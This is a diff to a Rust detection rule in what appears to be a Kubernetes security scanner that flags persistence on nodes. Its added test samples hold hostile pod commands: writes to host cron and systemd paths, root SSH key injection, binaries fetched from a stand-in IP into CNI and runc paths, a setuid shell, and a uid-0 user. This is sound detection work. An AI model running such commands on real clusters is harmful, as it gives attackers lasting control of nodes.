@@ -1,9 +1,10 @@
 //! Things that stay: jobs and keys planted on the node, and libraries slipped under other programs.
 
-use super::words::{operands, subcommand, words};
+use super::planted::plants;
+use super::words::operands;
 use super::{COMMAND, Facts, Rule, Sample, Severity};
 use crate::detect::catalog::{Exposure, Remedy, Step, links};
-use crate::detect::files::{Access, FileUse, below};
+use crate::detect::files::{Access, below};
 use crate::detect::findings::Collector;
 use crate::normalize::Invocation;
 
@@ -39,13 +40,7 @@ pub(super) static RULES: &[Rule] = &[
         references: &[links::VOLUMES, links::POD_SECURITY],
         check: |facts, found| {
             for run in &facts.runs {
-                let planted = run.files.iter().find(|file| plants(file)).map(|file| file.by);
-                let by_tool = || {
-                    run.invocations()
-                        .find(|(at, call)| run.on_node.get(*at) == Some(&true) && enables(call))
-                        .map(|(at, _)| at)
-                };
-                if let Some(at) = planted.or_else(by_tool) {
+                if let Some(at) = plants(run) {
                     found.hit(Some(&run.container.name), run.path(), &run.show(at));
                 }
             }
@@ -74,6 +69,81 @@ pub(super) static RULES: &[Rule] = &[
             Sample::Hit(
                 35,
                 "containers: [{name: a, command: [nsenter, -t, '1', -m, --, sh, -c, 'echo x | crontab -']}]",
+            ),
+            Sample::Hit(
+                35,
+                "volumes: [{name: v, hostPath: {path: /}}]\ncontainers: [{name: a, command: [python3, -c, 'open(\"/h/etc/cron.d/x\",\"w\").write(\"x\")'], volumeMounts: [{name: v, mountPath: /h}]}]",
+            ),
+            Sample::Hit(
+                35,
+                "volumes: [{name: v, hostPath: {path: /}}]\ncontainers: [{name: a, command: [python3, -c, 'import pathlib,os;(pathlib.Path(os.path.join(\"/h\",\"etc/cron.d/x\"))).write_text(\"x\")'], volumeMounts: [{name: v, mountPath: /h}]}]",
+            ),
+            Sample::Hit(
+                35,
+                "volumes: [{name: v, hostPath: {path: /}}]\ncontainers: [{name: a, command: [perl, -e, 'open(F,\">>\",\"/h/root/.ssh/authorized_keys\");print F 1'], volumeMounts: [{name: v, mountPath: /h}]}]",
+            ),
+            Sample::Hit(
+                35,
+                "volumes: [{name: v, hostPath: {path: /etc}}]\ncontainers: [{name: a, command: [node, -e, 'require(\"fs\").appendFileSync(\"/e/crontab\",\"x\")'], volumeMounts: [{name: v, mountPath: /e}]}]",
+            ),
+            Sample::Hit(
+                35,
+                "volumes: [{name: v, hostPath: {path: /etc}}]\ncontainers: [{name: a, command: [ruby, -e, 'File.write(\"/e/profile.d/x.sh\",\"x\")'], volumeMounts: [{name: v, mountPath: /e}]}]",
+            ),
+            Sample::Hit(
+                35,
+                "volumes: [{name: v, hostPath: {path: /}}]\ncontainers: [{name: a, command: [sh, -c, 'curl -s https://x.test/r | tar xzf - -C /h'], volumeMounts: [{name: v, mountPath: /h}]}]",
+            ),
+            Sample::Hit(
+                35,
+                "volumes: [{name: v, hostPath: {path: /etc/systemd/system}}]\ncontainers: [{name: a, command: [unzip, -o, /p.zip, -d, /u], volumeMounts: [{name: v, mountPath: /u}]}]",
+            ),
+            Sample::Hit(
+                35,
+                "volumes: [{name: v, hostPath: {path: /etc}}]\ncontainers: [{name: a, command: [sh, -c, 'printf \"a\\nx\\n.\\nw\\n\" | ed /e/crontab'], volumeMounts: [{name: v, mountPath: /e}]}]",
+            ),
+            Sample::Hit(
+                35,
+                "volumes: [{name: v, hostPath: {path: /etc}}]\ncontainers: [{name: a, command: [sh, -c, 'cd /e && patch -p1 < /p'], volumeMounts: [{name: v, mountPath: /e}]}]",
+            ),
+            Sample::Hit(
+                35,
+                "volumes: [{name: v, hostPath: {path: /usr/bin}}]\ncontainers: [{name: a, command: [sh, -c, 'cp /payload /h/runc && chmod +x /h/runc'], volumeMounts: [{name: v, mountPath: /h}]}]",
+            ),
+            Sample::Hit(
+                35,
+                "volumes: [{name: v, hostPath: {path: /opt/cni/bin}}]\ncontainers: [{name: a, command: [wget, -qO, /cni/loopback, 'http://192.0.2.40/l'], volumeMounts: [{name: v, mountPath: /cni}]}]",
+            ),
+            Sample::Hit(
+                35,
+                "volumes: [{name: v, hostPath: {path: /opt/cni/bin}}]\ncontainers: [{name: a, command: [sh, -c, 'curl -o /tmp/l http://192.0.2.40/l; cp /tmp/l /cni/loopback'], volumeMounts: [{name: v, mountPath: /cni}]}]",
+            ),
+            Sample::Hit(
+                35,
+                "volumes: [{name: v, hostPath: {path: /opt}}]\ncontainers: [{name: a, command: [sh, -c, 'cp /bin/bash /h/.b; chmod 4755 /h/.b'], volumeMounts: [{name: v, mountPath: /h}]}]",
+            ),
+            Sample::Hit(
+                35,
+                "hostPID: true\ncontainers: [{name: a, command: [sh, -c, 'echo x >> /proc/$(pgrep -x kubelet)/root/etc/crontab']}]",
+            ),
+            Sample::Hit(
+                35,
+                "volumes: [{name: v, hostPath: {path: /}}]\ncontainers: [{name: a, command: [useradd, --root, /h, -o, -u, '0', x], volumeMounts: [{name: v, mountPath: /h}]}]",
+            ),
+            Sample::Miss(
+                "volumes: [{name: v, hostPath: {path: /opt/cni/bin}}]\ncontainers: [{name: a, command: [sh, -c, 'curl -sL https://dl.example.test/cni.tgz | tar -xz -C /h && chmod 755 /h/*'], volumeMounts: [{name: v, mountPath: /h}]}]",
+            ),
+            Sample::Miss(
+                "volumes: [{name: v, hostPath: {path: /opt/driver}}]\ncontainers: [{name: a, command: [sh, -c, 'cp -r /driver/. /h/ && chmod -R 755 /h'], volumeMounts: [{name: v, mountPath: /h}]}]",
+            ),
+            Sample::Miss(
+                "volumes: [{name: v, hostPath: {path: /}}]\ncontainers: [{name: a, command: [python3, -c, 'print(open(\"/h/etc/crontab\").read())'], volumeMounts: [{name: v, mountPath: /h}]}]",
+            ),
+            Sample::Miss(
+                "volumes: [{name: v, hostPath: {path: /var/backups}}]\ncontainers: [{name: a, command: [tar, czf, /b/etcd.tgz, -C, /, snapshot], volumeMounts: [{name: v, mountPath: /b}]}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'tar xzf /p.tgz -C / && chmod u+s /usr/bin/ping']}]",
             ),
             Sample::Miss(
                 "containers: [{name: a, command: [sh, -c, 'echo \"* * * * * backup\" > /etc/crontabs/root; crond -f']}]",
@@ -186,79 +256,6 @@ pub(super) static RULES: &[Rule] = &[
         ..COMMAND
     },
 ];
-
-/// Directories and files of the node that make it run or trust something.
-const PLACES: &[&str] = &[
-    "/etc/crontab",
-    "/etc/cron.d",
-    "/etc/cron.hourly",
-    "/etc/cron.daily",
-    "/etc/cron.weekly",
-    "/etc/cron.monthly",
-    "/etc/anacrontab",
-    "/var/spool/cron",
-    "/var/spool/at",
-    "/etc/systemd",
-    "/lib/systemd",
-    "/usr/lib/systemd",
-    "/usr/local/lib/systemd",
-    "/run/systemd/system",
-    "/run/systemd/generator",
-    "/etc/init.d",
-    "/etc/rc.local",
-    "/etc/rc.d",
-    "/etc/init",
-    "/etc/kubernetes/manifests",
-    "/var/lib/rancher/k3s/server/manifests",
-    "/var/lib/rancher/rke2/server/manifests",
-    "/etc/ld.so.preload",
-    "/etc/ld.so.conf.d",
-    "/etc/sudoers",
-    "/etc/sudoers.d",
-    "/etc/passwd",
-    "/etc/shadow",
-    "/etc/group",
-    "/etc/profile",
-    "/etc/profile.d",
-    "/etc/bash.bashrc",
-    "/etc/environment",
-    "/etc/update-motd.d",
-    "/etc/udev/rules.d",
-    "/lib/udev/rules.d",
-    "/etc/pam.d",
-    "/etc/ssh",
-    "/etc/modules-load.d",
-    "/etc/NetworkManager/dispatcher.d",
-    "/var/lib/cloud/scripts",
-    "/boot",
-];
-
-/// Files of that kind in home directories.
-const HOME_FILES: &[&str] = &[
-    "/authorized_keys",
-    "/authorized_keys2",
-    "/.bashrc",
-    "/.bash_profile",
-    "/.profile",
-    "/.zshrc",
-    "/.ssh",
-    "/.bash_login",
-];
-
-fn plants(file: &FileUse) -> bool {
-    let Some(host) = file.host.as_deref().filter(|_| file.access == Access::Write) else { return false };
-    PLACES.iter().any(|place| below(host, place)) || HOME_FILES.iter().any(|end| host.ends_with(end))
-}
-
-/// Tools that make the system they run on start or trust something.
-fn enables(invocation: &Invocation) -> bool {
-    match invocation.program.as_str() {
-        "systemctl" => subcommand(invocation, &["enable", "start", "daemon-reload", "link"]),
-        "crontab" => !words(invocation).any(|word| matches!(word, "-l" | "-r")),
-        "useradd" | "adduser" | "usermod" | "chpasswd" => true,
-        _ => false,
-    }
-}
 
 /// Preloaded libraries that are common and harmless.
 const KNOWN_PRELOADS: &[&str] = &[
